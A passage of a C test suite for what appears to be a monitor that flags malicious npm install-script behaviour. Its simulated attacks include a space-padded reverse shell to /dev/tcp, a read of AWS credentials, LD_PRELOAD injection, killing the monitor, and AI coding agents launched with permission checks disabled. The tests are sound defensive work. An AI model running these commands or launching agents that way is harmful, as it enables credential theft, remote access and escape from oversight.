	ev_sock(&B, an, PT_EV_SEND, 101, "10.0.0.53", 53, SOCK_DGRAM, dns_exfil, sizeof(dns_exfil));
}

/* the same query and connection with no secret read first */
static void no_secret_dns(struct analyzer *an)
{
	pkg_script(an);
	ev_sock(&B, an, PT_EV_SEND, 101, "10.0.0.53", 53, SOCK_DGRAM, dns_exfil, sizeof(dns_exfil));
	ev_sock(&B, an, PT_EV_CONNECT, 101, "203.0.113.5", 443, SOCK_STREAM, NULL, 0);
}

static void test_exfiltration(void)
{
	struct report *r;
	const struct finding *f;

	r = analyze(exfil_connect);
	f = find(r, "network-egress", "pkg");
	CHECK(f && f->sev == SEV_HIGH && strstr(f->summary, "exfiltration"));
	report_free(r);
	r = analyze(exfil_datagram);
	f = find(r, "network-egress", "pkg");
	CHECK(f && f->sev == SEV_CRITICAL);
	report_free(r);
	r = analyze(exfil_dns);
	f = find(r, "dns-query", "pkg");
	CHECK(f && f->sev == SEV_CRITICAL);
	if (!f || f->sev != SEV_CRITICAL)
		dump(r);
	report_free(r);
	r = analyze(no_secret_dns);
	f = find(r, "dns-query", "pkg");
	CHECK(f && f->sev == SEV_MEDIUM);
	f = find(r, "network-egress", "pkg");
	CHECK(f && f->sev == SEV_MEDIUM);
	report_free(r);
}

/* ---- dropper: a written file run through an interpreter or the loader ---- */

static const char *const *drop_argv;

static void drop_via(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/tmp/stage.js", O_WRONLY | O_CREAT);
	run(an, 102, drop_argv[0][0] == '/' ? drop_argv[0] : "/usr/bin/node", drop_argv, 0, false);
}

/* its own generated script, in its own folder, no network */
static void own_script(struct analyzer *an)
{
	const char *argv[] = { "node", PKG "/gen.js", NULL };

	pkg_script(an);
	ev_open(&B, an, 101, PKG "/gen.js", O_WRONLY | O_CREAT);
	run(an, 102, "/usr/bin/node", argv, 0, false);
}

static void test_dropper_interpreters(void)
{
	static const char *const a1[] = { "node", "--", "/tmp/stage.js", NULL };
	static const char *const a2[] = { "node", "-r", "/tmp/stage.js", "index.js", NULL };
	static const char *const a3[] = { "/usr/bin/python3", "-u", "../../../../tmp/stage.js", NULL };
	static const char *const a4[] = { "/bin/sh", "/tmp/stage.js", NULL };
	static const char *const a5[] = { "/lib64/ld-linux-x86-64.so.2", "--library-path", "/lib", "/tmp/stage.js", NULL };
	static const char *const a6[] = { "/usr/local/bin/bun", "run", "/tmp/stage.js", NULL };
	static const char *const a7[] = { "/usr/bin/perl", "-I", "/tmp", "/tmp/stage.js", NULL };
	const char *const *all[] = { a1, a2, a3, a4, a5, a6, a7 };
	static const char *const n1[] = { "node", "-e", "require('/tmp/stage.js')", NULL };
	struct report *r;

	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
		drop_argv = all[i];
		r = analyze(drop_via);
		if (!find(r, "dropper", "pkg"))
			printf("#   not a dropper: %s %s\n", all[i][0], all[i][1]);
		CHECK(find(r, "dropper", "pkg") != NULL);
		report_free(r);
	}
	/* code given inline names no file that ran */
	drop_argv = n1;
	r = analyze(drop_via);
	CHECK(!find(r, "dropper", NULL));
	report_free(r);
	r = analyze(own_script);
	CHECK(!find(r, "dropper", NULL));
	report_free(r);
}

/* ---- AI agents driven with their permission checks off ---- */

static const char *const *agent_argv;

static void agent_run(struct analyzer *an)
{
	pkg_script(an);
	run(an, 102, agent_argv[0], agent_argv, 0, false);
}

static void test_ai_agents(void)
{
	static const char *const c1[] = { "/usr/local/bin/claude", "--dangerously-skip-permissions", "-p", "x", NULL };
	static const char *const c2[] = { "/usr/bin/gemini", "--yolo", "-p", "x", NULL };
	static const char *const c3[] = { "/usr/bin/q", "chat", "--trust-all-tools", "x", NULL };
	static const char *const c4[] = { "/usr/bin/codex", "exec", "--full-auto", "x", NULL };
	static const char *const c5[] = { "/usr/bin/node", "/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js",
					  "--permission-mode", "bypassPermissions", NULL };
	static const char *const c6[] = { "/usr/bin/copilot", "--allow-all-tools", "-p", "x", NULL };
	const char *const *high[] = { c1, c2, c3, c4, c5, c6 };
	static const char *const plain[] = { "/usr/local/bin/claude", "--version", NULL };
	static const char *const other[] = { "/usr/bin/rm", "--force", "x", NULL };
	struct report *r;
	const struct finding *f;

	for (size_t i = 0; i < sizeof(high) / sizeof(high[0]); i++) {
		agent_argv = high[i];
		r = analyze(agent_run);
		f = find(r, "unexpected-exec", "pkg");
		if (!f || f->sev != SEV_HIGH)
			printf("#   not high: %s %s\n", high[i][0], high[i][1]);
		CHECK(f && f->sev == SEV_HIGH);
		report_free(r);
	}
	agent_argv = plain;
	r = analyze(agent_run);
	f = find(r, "unexpected-exec", "pkg");
	CHECK(f && f->sev == SEV_MEDIUM);
	report_free(r);
	/* --force on a tool that is no agent is nothing */
	agent_argv = other;
	r = analyze(agent_run);
	CHECK(!find(r, "unexpected-exec", NULL));
	report_free(r);
}

/* ---- where hooks count ---- */

/* npm extracts tarballs that ship hooks, agent settings and workflows */
static void pm_extracts_hooks(struct analyzer *an)
{
	ev_open(&B, an, 100, NM "/other/.husky/pre-commit", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/other/.claude/settings.local.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/other/.vscode/tasks.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/other/.git/hooks/pre-commit", O_WRONLY | O_CREAT);
	ev_open(&B, an, 100, NM "/.pnpm/x@1.0.0/node_modules/x/.husky/pre-push", O_WRONLY | O_CREAT);
	pkg_script(an);
	/* its own copy of a workflow, inside its own folder */
	ev_open(&B, an, 101, PKG "/.github/workflows/ci.yml", O_WRONLY | O_CREAT);
}

static void script_writes_project_hooks(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PROJ "/.claude/settings.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, PROJ "/.vscode/tasks.json", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, "/root/.claude/settings.json", O_WRONLY | O_CREAT);
}

static void test_package_content_hooks(void)
{
	struct report *r = analyze(pm_extracts_hooks);

	CHECK(!find(r, "persistence", NULL));
	CHECK(!find(r, "tamper", NULL));
	if (find(r, "persistence", NULL) || find(r, "tamper", NULL))
		dump(r);
	report_free(r);
	r = analyze(script_writes_project_hooks);
	CHECK(find(r, "persistence", "pkg") != NULL);
	report_free(r);
}

/* ---- $HOME: its caches are usual, the rest is outside ---- */

static void home_writes(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.cache/puppeteer/chrome/x", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, "/root/.npm/_cacache/x", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, "/root/.node-gyp/20.0.0/include/x.h", O_WRONLY | O_CREAT);
}

static void home_outside(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, "/root/.config/telemetry/id", O_WRONLY | O_CREAT);
}

static void test_home_writes(void)
{
	struct report *r = analyze(home_writes);

	CHECK(!find(r, "write-outside-project", NULL));
	report_free(r);
	r = analyze(home_outside);
	CHECK(find(r, "write-outside-project", "pkg") != NULL);
	report_free(r);
}

/* ---- approvals as npm decides them ---- */

static const char *root_json;

static void root_facts(struct facts *f)
{
	put(f, PROJ "/package.json", root_json);
	put(f, PROJ "/package-lock.json",
	    "{\"packages\":{\"node_modules/pkg\":{\"version\":\"1.0.0\",\"resolved\":\"http://127.0.0.1:4873/pkg/-/pkg-1.0.0.tgz\"},"
	    "\"node_modules/other\":{\"version\":\"2.0.0\",\"resolved\":\"file:other-2.0.0.tgz\"}}}");
	put(f, NM "/other/package.json", "{\"name\":\"other\",\"version\":\"2.0.0\",\"scripts\":{\"postinstall\":\"x\"}}");
}

static void other_script(struct analyzer *an)
{
	pkg_script(an);
	script(an, 110, "other", NM "/other", "node x.js");
	ev_exit(&B, an, 110);
}

/* verdict: pkg's and other's approval under the root package.json json */
static void verdict(const char *json, int pkg, int other)
{
	struct report *r;

	root_json = json;
	pre_facts = root_facts;
	r = analyze(other_script);
	pre_facts = NULL;
	for (size_t i = 0; r && i < r->nowners; i++) {
		const struct owner *o = r->owners[i];

		if (o->name && !strcmp(o->name, "pkg"))
			CHECK_INT(o->approved, pkg);
		if (o->name && !strcmp(o->name, "other"))
			CHECK_INT(o->approved, other);
		if (o->name && (!strcmp(o->name, "pkg") || !strcmp(o->name, "other")))
			CHECK_STR(o->pm, "npm");
	}
	report_free(r);
}

static void test_npm_approvals(void)
{
	/* a name-only key covers a registry package, never a file: one */
	verdict("{\"allowScripts\":{\"pkg\":true,\"other\":true}}", 1, -1);
	/* a pin matches the version of the registry URL */
	verdict("{\"allowScripts\":{\"pkg@1.0.0\":true,\"other@2.0.0\":true}}", 1, -1);
	verdict("{\"allowScripts\":{\"pkg@1.0.1 || 1.0.0\":true}}", 1, -1);
	verdict("{\"allowScripts\":{\"pkg@0.9.0\":true}}", -1, -1);
	/* ranges and tags are dropped, as npm drops them */
	verdict("{\"allowScripts\":{\"pkg@^1.0.0\":true,\"pkg@latest\":true}}", -1, -1);
	/* a file: key matches the file: package */
	verdict("{\"allowScripts\":{\"file:./other-2.0.0.tgz\":true}}", -1, 1);
	/* a deny wins */
	verdict("{\"allowScripts\":{\"pkg\":true,\"pkg@1.0.0\":false}}", 0, -1);
	/* no allowScripts: the project's .npmrc */
	verdict("{\"name\":\"proj\"}", -1, -1);
}

/* find_key: the finding of rule with key (any owner), or NULL. */
static const struct finding *find_key(const struct report *r, const char *rule, const char *key)
{
	for (size_t i = 0; r && i < r->nfindings; i++) {
		const struct finding *f = &r->findings[i];

		if (!strcmp(rule_info[f->rule].id, rule) && f->key && !strcmp(f->key, key))
			return f;
	}
	return NULL;
}

/* expect: body gives rule's finding with key at sev (owned by pkg when
 * pkg), or none at all of rule with key when sev is -1. */
static void expect(const char *what, void (*body)(struct analyzer *), const char *rule, const char *key, int sev,
		   const char *pkg)
{
	struct report *r = analyze(body);
	const struct finding *f = find_key(r, rule, key);
	int before = unit_failed_checks;

	if (sev < 0) {
		CHECK(!f);
	} else {
		CHECK(f && f->sev == sev);
		if (f && pkg)
			CHECK(f->owner >= 0 && r->owners[f->owner]->name && !strcmp(r->owners[f->owner]->name, pkg));
	}
	if (unit_failed_checks != before) {
		printf("# %s (%s %s):\n", what, rule, key);
		dump(r);
	}
	report_free(r);
}

/* ---- monitor-tamper: each way at the monitor ---- */

static void kill_collector(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 101, COLLECTOR, 9, PT_SIG_KILL, 0, 0, NULL);
}
static void probe_collector(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 101, COLLECTOR, 0, PT_SIG_PIDFD, 0, 0, NULL);
}
static void stop_init(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 101, 1, 19, PT_SIG_TKILL, 0, 0, NULL);
}
static void kill_all(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 101, (uint32_t)-1, 9, PT_SIG_KILL, 0, 0, NULL);
}
static void map_by_id(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_BPF, 101, 14 /* BPF_MAP_GET_FD_BY_ID */, MONITOR_MAP, 0, 0, 3, NULL);
}
static void link_walk(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_BPF, 101, 31 /* BPF_LINK_GET_NEXT_ID */, 0, 0, 0, 0, NULL);
}
static void own_map(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_BPF, 101, 0 /* BPF_MAP_CREATE */, 2, 0, 0, 3, NULL);
}
static void vm_write(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_PROCVM, 101, 100, 1, 0, 0, 8, NULL);
}
static void vm_read_collector(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_PROCVM, 101, COLLECTOR, 0, 0, 0, 8, NULL);
}
static void ptrace_seize(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_PTRACE, 101, 0x4206, 100, 0, 0, 0, NULL);
}
/* the package manager signalling its own script: no attack */
static void pm_kills_script(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SIGNAL, 100, 101, 15, PT_SIG_KILL, 0, 0, NULL);
}
/* the traced command itself at the collector: judged too */
static void command_kills_collector(struct analyzer *an)
{
	call(an, PT_EV_SIGNAL, 100, COLLECTOR, 9, PT_SIG_KILL, 0, 0, NULL);
}

static void test_monitor_tamper(void)
{
	expect("kill -9 collector", kill_collector, "monitor-tamper", "signal-collector", SEV_CRITICAL, "pkg");
	expect("pidfd signal 0", probe_collector, "monitor-tamper", "probe-collector", SEV_HIGH, "pkg");
	expect("SIGSTOP pid 1", stop_init, "monitor-tamper", "signal-init", SEV_CRITICAL, "pkg");
	expect("kill -1", kill_all, "monitor-tamper", "signal-all", SEV_CRITICAL, "pkg");
	expect("map by id", map_by_id, "monitor-tamper", "bpf-monitor-map", SEV_CRITICAL, "pkg");
	expect("link walk", link_walk, "monitor-tamper", "bpf-objects", SEV_CRITICAL, "pkg");
	expect("own map", own_map, "monitor-tamper", "bpf", SEV_HIGH, "pkg");
	expect("vm write", vm_write, "monitor-tamper", "process_vm_writev", SEV_CRITICAL, "pkg");
	expect("vm read collector", vm_read_collector, "monitor-tamper", "read-collector", SEV_CRITICAL, "pkg");
	expect("ptrace seize", ptrace_seize, "monitor-tamper", "ptrace-attach", SEV_CRITICAL, "pkg");
	expect("pm kills script", pm_kills_script, "monitor-tamper", "signal-group", -1, NULL);
	expect("command kills collector", command_kills_collector, "monitor-tamper", "signal-collector",
	       SEV_CRITICAL, NULL);
}

/* ---- evasion: each way around the view ---- */

static void int80_open(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_COMPAT, 3, PKG "/x");
}
static void bind_mount(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_MOUNT, 0x1000 /* MS_BIND */, 0, 0, 0, "/tmp/x");
}
static void unshare_user(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x10000000, 0, 0, -1, NULL);
}
static void unshare_net(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_UNSHARE, 0x40000000, 0, 0, 0, NULL);
}
static void by_handle(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_BY_HANDLE, 4, "/root/.aws/credentials");
}
static void uring_setup(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_SYS, 101, PT_SYS_IO_URING_SETUP, 0, 8, 0, 3, NULL);
}
static void uring_fixed(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_IOURING, 101, 22 /* READ */, (uint64_t)-1, 1, PT_F_IOURING, 0, NULL);
}
/* the package manager's own io_uring: not judged */
static void pm_uring(struct analyzer *an)
{
	call(an, PT_EV_SYS, 100, PT_SYS_IO_URING_SETUP, 0, 8, 0, 3, NULL);
}

static void test_evasion(void)
{
	expect("int 0x80", int80_open, "evasion", "compat32", SEV_HIGH, "pkg");
	expect("bind mount", bind_mount, "evasion", "mount", SEV_HIGH, "pkg");
	expect("unshare user (failed)", unshare_user, "evasion", "unshare", SEV_HIGH, "pkg");
	expect("unshare net", unshare_net, "evasion", "unshare", SEV_MEDIUM, "pkg");
	expect("by handle", by_handle, "evasion", "open_by_handle_at", SEV_HIGH, "pkg");
	expect("by handle is a read", by_handle, "credential-access", "aws", SEV_HIGH, "pkg");
	expect("io_uring setup", uring_setup, "evasion", "io_uring", SEV_LOW, "pkg");
	expect("io_uring fixed file", uring_fixed, "evasion", "io_uring-fixed-file", SEV_MEDIUM, "pkg");
	expect("pm io_uring", pm_uring, "evasion", "io_uring", -1, NULL);
}

/* ---- refusals of the --enforce filter: the behaviour's rule, action refused ---- */

static void refused(struct analyzer *an, uint32_t pid, long nr, uint64_t abi)
{
	call(an, PT_EV_REFUSED, pid, (uint64_t)nr, abi, 0, 0, -38, NULL);
}
static void refused_bpf(struct analyzer *an)
{
	pkg_script(an);
	refused(an, 101, __NR_bpf, PT_REFUSED_ABI_NATIVE);
}
static void refused_int80(struct analyzer *an)
{
	pkg_script(an);
	refused(an, 101, 5 /* i386 open */, PT_REFUSED_ABI_IA32);
}
static void refused_uring(struct analyzer *an)
{
	pkg_script(an);
	refused(an, 101, __NR_io_uring_setup, PT_REFUSED_ABI_NATIVE);
}
static void refused_unshare(struct analyzer *an)
{
	pkg_script(an);
	refused(an, 101, __NR_unshare, PT_REFUSED_ABI_NATIVE);
}
/* node (the package manager) with UV_USE_IO_URING=1: counted, not judged */
static void pm_refused_uring(struct analyzer *an)
{
	refused(an, 100, __NR_io_uring_setup, PT_REFUSED_ABI_NATIVE);
}
static void pm_refused_ptrace(struct analyzer *an)
{
	refused(an, 100, __NR_ptrace, PT_REFUSED_ABI_NATIVE);
}

static void test_refused(void)
{
	struct report *r;
	const struct finding *f;

	expect("refused bpf", refused_bpf, "monitor-tamper", "refused:bpf", SEV_HIGH, "pkg");
	expect("refused int 0x80", refused_int80, "evasion", "refused:ia32", SEV_HIGH, "pkg");
	expect("refused io_uring", refused_uring, "evasion", "refused:io_uring_setup", SEV_LOW, "pkg");
	expect("refused unshare", refused_unshare, "evasion", "refused:unshare", SEV_HIGH, "pkg");
	expect("pm refused io_uring", pm_refused_uring, "evasion", "refused:io_uring_setup", -1, NULL);
	expect("pm refused ptrace", pm_refused_ptrace, "monitor-tamper", "refused:ptrace", SEV_CRITICAL, NULL);
	r = analyze(refused_int80);
	f = find_key(r, "evasion", "refused:ia32");
	CHECK(f && f->action && !strcmp(f->action, "refused") && strstr(f->summary, "ia32 (int 0x80) call 5"));
	CHECK_INT(r->refused, 1);
	report_free(r);
	r = analyze(pm_refused_uring);
	CHECK_INT(r->refused, 1);
	report_free(r);
	/* a plain finding has no action */
	r = analyze(unshare_user);
	f = find_key(r, "evasion", "unshare");
	CHECK(f && !f->action);
	report_free(r);
}

/* ---- io_uring requests are judged as the syscalls (ret 0: unknown) ---- */

static void uring_cred(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_OPEN, 101, O_RDONLY, 0, 0, PT_F_IOURING, 0, "/root/.aws/credentials");
}
static void uring_connect(struct analyzer *an)
{
	pkg_script(an);
	evb_start(&B, PT_EV_CONNECT, 101, 1);
	B.ev.arg[0] = AF_INET;
	B.ev.arg[1] = 443;
	B.ev.arg[2] = SOCK_STREAM;
	B.ev.flags = PT_F_IOURING;
	evb_field(&B, (const uint8_t[]){ 203, 0, 113, 5 }, 4);
	evb_feed(&B, an);
}
static void uring_bashrc(struct analyzer *an)
{
	pkg_script(an);
	call(an, PT_EV_OPEN, 101, O_WRONLY | O_APPEND, 0, 0, PT_F_IOURING, 0, "/root/.bashrc");
}

static void test_iouring_like_syscalls(void)
{
	expect("io_uring OPENAT of credentials", uring_cred, "credential-access", "aws", SEV_HIGH, "pkg");
	expect("io_uring CONNECT", uring_connect, "network-egress", "203.0.113.5:443/tcp", SEV_MEDIUM, "pkg");
	expect("io_uring OPENAT for append to .bashrc", uring_bashrc, "persistence", "shell-rc", SEV_HIGH, "pkg");
}

/* ---- the whole argv is judged ---- */

static char padded_cmd[8192];

static void padded_shell(struct analyzer *an, size_t spaces)
{
	const char *argv[] = { "bash", "-c", padded_cmd, NULL };

	memset(padded_cmd, ' ', spaces);
	strcpy(padded_cmd + spaces, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
	pkg_script(an);
	run(an, 102, "/usr/bin/bash", argv, 0, false);
}
static void pad1500(struct analyzer *an) { padded_shell(an, 1500); }

/* 5,000 spaces: the kernel keeps the list's first 3 KiB and last 1 KiB */
static void pad5000(struct analyzer *an)
{
	char list[8192], kept[PT_ARGV_MAX];
	size_t n = 0;

	memcpy(list, "bash\0-c\0", 8);
	n = 8;
	memset(list + n, ' ', 5000);
	n += 5000;
	strcpy(list + n, "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1");
	n += strlen(list + n) + 1;
	memcpy(kept, list, 3072);
	memcpy(kept + 3072, list + n - 1024, 1024);
	pkg_script(an);
	ev_fork(&B, an, 101, 102);
	evb_start(&B, PT_EV_EXEC, 102, 1);
	B.ev.flags = PT_F_ARGV_TAIL | PT_F_TRUNC(1);
	evb_str(&B, "/usr/bin/bash");
	evb_field(&B, kept, sizeof(kept));
	evb_str(&B, PKG);
	evb_list(&B, base_env);
	evb_feed(&B, an);
}

static void test_long_argv(void)
{
	expect("1,500 spaces", pad1500, "unexpected-exec", "reverse-shell", SEV_CRITICAL, "pkg");
	expect("1,500 spaces: padding", pad1500, "evasion", "argv-padding", SEV_HIGH, "pkg");
	expect("5,000 spaces (head and tail)", pad5000, "unexpected-exec", "reverse-shell", SEV_CRITICAL, "pkg");
	expect("5,000 spaces: padding", pad5000, "evasion", "argv-padding", SEV_HIGH, "pkg");
}

/* ---- environment injection ---- */

static const char *inj_env[3];

static void set_for_child(struct analyzer *an)
{
	const char *argv[] = { "node", "build.js", NULL };
	const char *env[] = { "HOME=/root", inj_env[0], inj_env[1], NULL };

	pkg_script(an);
	ev_fork(&B, an, 101, 102);
	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, env);
}
static void ld_preload(struct analyzer *an)
{
	inj_env[0] = "LD_PRELOAD=/tmp/hook.so";
	inj_env[1] = NULL;
	set_for_child(an);
}
static void node_require(struct analyzer *an)
{
	inj_env[0] = "NODE_OPTIONS=--max-old-space-size=4096 --require /tmp/x.js";
	inj_env[1] = NULL;
	set_for_child(an);
}
static void node_heap(struct analyzer *an)
{
	inj_env[0] = "NODE_OPTIONS=--max-old-space-size=4096";
	inj_env[1] = NULL;
	set_for_child(an);
}
static void bash_env(struct analyzer *an)
{
	inj_env[0] = "BASH_ENV=/tmp/rc";
	inj_env[1] = NULL;
	set_for_child(an);
}
static void libpath_tmp(struct analyzer *an)
{
	inj_env[0] = "LD_LIBRARY_PATH=" PKG "/build:/tmp/evil";
	inj_env[1] = NULL;
	set_for_child(an);
}
static void libpath_own(struct analyzer *an)
{
	inj_env[0] = "LD_LIBRARY_PATH=" PKG "/build/Release:/usr/lib/x86_64-linux-gnu";
	inj_env[1] = "PYTHONPATH=" PKG "/py";
	set_for_child(an);
}
/* the package manager gave the script LD_PRELOAD (the user's own, say):
 * its children keep it */
static void given_by_pm(struct analyzer *an)
{
	const char *env[] = { "npm_lifecycle_event=postinstall", "npm_package_name=pkg",
			      "npm_package_json=" PKG "/package.json", "LD_PRELOAD=/usr/lib/libeatmydata.so", NULL };
	const char *sh[] = { "sh", "-c", "node build.js", NULL }, *node[] = { "node", "build.js", NULL };
	const char *child[] = { "LD_PRELOAD=/usr/lib/libeatmydata.so", NULL };

	ev_fork(&B, an, 100, 101);
	ev_exec(&B, an, 101, "/bin/sh", sh, PKG, env);
	ev_fork(&B, an, 101, 102);
	ev_exec(&B, an, 102, "/usr/bin/node", node, PKG, child);
}

static void test_env_injection(void)
{
	expect("LD_PRELOAD", ld_preload, "unexpected-exec", "env:LD_PRELOAD", SEV_HIGH, "pkg");
	expect("NODE_OPTIONS --require", node_require, "unexpected-exec", "env:NODE_OPTIONS", SEV_HIGH, "pkg");
	expect("NODE_OPTIONS heap size", node_heap, "unexpected-exec", "env:NODE_OPTIONS", -1, NULL);
	expect("BASH_ENV", bash_env, "unexpected-exec", "env:BASH_ENV", SEV_HIGH, "pkg");
	expect("LD_LIBRARY_PATH into /tmp", libpath_tmp, "unexpected-exec", "env:LD_LIBRARY_PATH", SEV_HIGH, "pkg");
	expect("LD_LIBRARY_PATH own build", libpath_own, "unexpected-exec", "env:LD_LIBRARY_PATH", -1, NULL);
	expect("PYTHONPATH own folder", libpath_own, "unexpected-exec", "env:PYTHONPATH", -1, NULL);
	expect("LD_PRELOAD given by the PM", given_by_pm, "unexpected-exec", "env:LD_PRELOAD", -1, NULL);
}

/* ---- blame shifting: a script's own npm-cli.js ---- */

static void fake_npm(struct analyzer *an)
{
	const char *argv[] = { "node", PKG "/x/npm-cli.js", "run", "postinstall", NULL };
	const char *env[] = { "npm_lifecycle_event=postinstall", "npm_package_name=proj",
			      "npm_package_json=" PROJ "/package.json", "HOME=/root", NULL };
	const char *sh[] = { "sh", "-c", "cat ~/.aws/credentials", NULL };

	pkg_script(an);
	ev_fork(&B, an, 101, 102);
	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, base_env);
	ev_open(&B, an, 102, "/root/.npmrc", O_RDONLY);
	ev_fork(&B, an, 102, 103);
	ev_exec(&B, an, 103, "/bin/sh", sh, PROJ, env);
	ev_open(&B, an, 103, "/root/.aws/credentials", O_RDONLY);
}

/* the real npm (the program the install ran) inside a script: npm run build */
static void nested_real_npm(struct analyzer *an)
{
	const char *argv[] = { "node", "/usr/bin/npm", "run", "build", NULL };
	const char *env[] = { "npm_lifecycle_event=build", "npm_package_name=pkg",
			      "npm_package_json=" PKG "/package.json", "HOME=/root", NULL };
	const char *sh[] = { "sh", "-c", "tsc", NULL };

	pkg_script(an);
	ev_fork(&B, an, 101, 102);
	ev_exec(&B, an, 102, "/usr/bin/node", argv, PKG, base_env);
	ev_open(&B, an, 102, "/root/.npmrc", O_RDONLY);
	ev_fork(&B, an, 102, 103);
	ev_exec(&B, an, 103, "/bin/sh", sh, PKG, env);
}

static void test_blame_shifting(void)
{
	struct report *r = analyze(fake_npm), *n;

	expect("fake npm: the read stays pkg's", fake_npm, "credential-access", "aws", SEV_HIGH, "pkg");
	expect("fake npm: its .npmrc read is pkg's", fake_npm, "credential-access", "npm-token", SEV_HIGH, "pkg");
	CHECK(!find(r, "credential-access", "proj"));
	report_free(r);
	expect("real npm run build: its .npmrc read is npm's", nested_real_npm, "credential-access", "npm-token",
	       -1, NULL);
	n = analyze(nested_real_npm);
	for (size_t i = 0; n && i < n->nowners; i++)
		if (n->owners[i]->name && !strcmp(n->owners[i]->name, "pkg"))
			CHECK(n->owners[i]->set[PS_SCRIPTS].n == 2); /* postinstall and build */
	report_free(n);
}

/* ---- benign look-alikes of real installs, each next to the attack it
 * resembles (issue 13) ---- */

/* sev_max: the highest severity of rule's findings (any package), or -1 */
static int sev_max(const struct report *r, const char *rule)
{
	int m = -1;

	for (size_t i = 0; r && i < r->nfindings; i++)
		if (!strcmp(rule_info[r->findings[i].rule].id, rule) && r->findings[i].sev > m)
			m = r->findings[i].sev;
	return m;
}

/* GNU make as root: setresuid(-1, 0, -1) changes nothing */
static void setid_noop_root(struct analyzer *an)
{
	static const uint32_t zero[3] = { 0, 0, 0 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_RESUID, -1, 0, zero, 0);
	ev_setid(&B, an, 101, PT_SETID_RESGID, -1, 0, zero, 0);
	ev_setid(&B, an, 101, PT_SETID_RESUID, -1, 0, NULL, 0); /* a trace without the ids after */
}

/* root dropping to nobody: a change, no escalation */
static void setid_drop_root(struct analyzer *an)
{
	static const uint32_t nobody[3] = { 65534, 65534, 65534 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 65534, -1, nobody, 0);
}

/* uid 1000 becoming root (a setuid-root helper's saved id), after a failed try
 * (run as uid 1000) */
static void setid_gain(struct analyzer *an)
{
	static const uint32_t root3[3] = { 0, 0, 0 };

	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, NULL, -1); /* EPERM: nothing changed */
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, root3, 0);
}

static void setid_failed_only(struct analyzer *an)
{
	pkg_script(an);
	ev_setid(&B, an, 101, PT_SETID_UID, 0, -1, NULL, -1);
}

static void test_setid(void)
{
	struct report *noop = analyze(setid_noop_root), *drop = analyze(setid_drop_root);
	struct report *gain, *failed;

	B.uid = 1000; /* an install run as uid 1000 */
	gain = analyze(setid_gain);
	failed = analyze(setid_failed_only);
	B.uid = 0;

	CHECK_INT(sev_max(noop, "privilege-change"), -1);
	CHECK_INT(sev_max(drop, "privilege-change"), SEV_INFO);
	CHECK_INT(sev_max(gain, "privilege-change"), SEV_HIGH);
	CHECK_INT(sev_max(failed, "privilege-change"), -1);
	report_free(noop);
	report_free(drop);
	report_free(gain);
	report_free(failed);
}

/* gyp's dependency files mirror absolute paths under the package's build/ */
static void gyp_deps(struct analyzer *an)
{
	pkg_script(an);
	ev_open(&B, an, 101, PKG "/build/Release/.deps" PKG "/lib/binding/x.node.d", O_WRONLY | O_CREAT);
	ev_open(&B, an, 101, PKG "/build/Release/.deps" NM "/other/x.o.d", O_WRONLY | O_CREAT);
}

static void test_own_build_tree(void)
{
	struct report *r = analyze(gyp_deps), *attack = analyze(tamper_fire);

	CHECK_INT(sev_max(r, "tamper"), -1);
	CHECK_INT(sev_max(attack, "tamper"), SEV_HIGH);
	CHECK_INT(npm_folder_len(PKG "/build/Release/.deps" NM "/other/x"), strlen(PKG));
	CHECK_INT(npm_folder_len(NM "/a/node_modules/@s/b/lib/x.js"), strlen(NM "/a/node_modules/@s/b"));
	CHECK_INT(npm_folder_len(NM "/.pnpm/a@1.0.0/node_modules/a/index.js"),
		  strlen(NM "/.pnpm/a@1.0.0/node_modules/a"));
	CHECK_INT(npm_folder_len(NM "/.bin/x"), 0);
	CHECK_INT(npm_folder_len(NM "/.package-lock.json"), 0);
	report_free(r);
	report_free(attack);
}

/* CPython caching the bytecode of a module it imports, in another
 * package's folder (node-gyp's gyp, run by pkg's build) */
static void pyc_by_python(struct analyzer *an)
{
	const char *argv[] = { "python3", "gyp_main.py", NULL };

	pkg_script(an);
